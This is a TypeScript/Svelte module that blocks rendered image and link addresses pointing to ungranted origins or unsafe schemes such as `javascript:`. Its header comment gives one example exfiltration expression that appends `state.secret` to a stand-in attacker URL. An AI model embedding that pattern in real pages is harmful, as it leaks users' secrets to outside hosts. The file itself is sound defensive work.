/**
 * Addresses the elements put into the page (Image `src`, Link `href`), judged at render by the
 * rule of ../schema/urls.ts: what a literal could not be (the gate refused it), an expression's
 * value cannot be either. An expression like `'https://evil.example/?d=' + state.secret` is only
 * known when it runs, so this is where it is stopped: an image on an origin the component was not
 * granted is never requested (its `src` is never set) and shows as blocked, in the owner's studio
 * too; such a link is not a link.
 */
import { getContext, setContext } from 'svelte';
import { judgeUrl, type UrlKind } from '../schema/urls';

/** What an element does with an address. */
export type ShownAddress =
  /** Put `href` into the page. */
  | { readonly show: 'load'; readonly href: string }
  /** Nothing to show: empty, or a scheme that is never an address (`javascript:`). */
  | { readonly show: 'none' }
  /** A remote origin the component was not granted: drawn as blocked, never requested. */
  | { readonly show: 'blocked'; readonly origin: string };

/** The origins the addresses of a node may reach: its component's network capability. */
export type OriginsOf = (nodeId: string | undefined) => ReadonlySet<string>;

/** The context key under which whoever renders a view tree provides its `OriginsOf`. */
export const NETWORK_ORIGINS = Symbol('malleable.network-origins');

const NONE: ReadonlySet<string> = new Set();
const NO_ORIGINS: OriginsOf = () => NONE;

/**
 * Provides the origins for the view tree rendered below the calling component (the canvas, from
 * the model's capabilities). Call during component initialisation.
 */
export function provideNetworkOrigins(originsOf: OriginsOf): void {
  setContext(NETWORK_ORIGINS, originsOf);
}

/**
 * The origins provider of the tree being drawn. Without one (a page that did not say), no origin
 * is granted: an address that leaves the server is blocked, never loaded by default.
 */
export function networkOrigins(): OriginsOf {
  return getContext<OriginsOf | undefined>(NETWORK_ORIGINS) ?? NO_ORIGINS;
}

/** What to do with an address of kind `kind`, given the origins its component was granted. */
export function showAddress(
  kind: UrlKind,
  raw: string,
  granted: ReadonlySet<string> = NONE
): ShownAddress {
  const verdict = judgeUrl(kind, raw, granted);
  if (verdict.ok)
    return verdict.href === '' ? { show: 'none' } : { show: 'load', href: verdict.href };
  return verdict.code === 'E_NETWORK_ORIGIN'
    ? { show: 'blocked', origin: verdict.origin }
    : { show: 'none' };
}

/**
 * The address a Link may point at, or undefined. Stops `javascript:` and `data:` links (script in
 * the studio's origin, which holds every open app's data) and origins not granted.
 */
export function safeLinkHref(raw: string, granted: ReadonlySet<string> = NONE): string | undefined {
  const shown = showAddress('link', raw, granted);
  return shown.show === 'load' ? shown.href : undefined;
}

/**
 * The address an Image may load, or undefined: a path on this server, an inline `data:image/...`
 * picture, or a granted origin. Other schemes (`javascript:`, `file:`, `blob:`) never reach the page.
 */
export function safeImageSrc(raw: string, granted: ReadonlySet<string> = NONE): string | undefined {
  const shown = showAddress('image', raw, granted);
  return shown.show === 'load' ? shown.href : undefined;
}
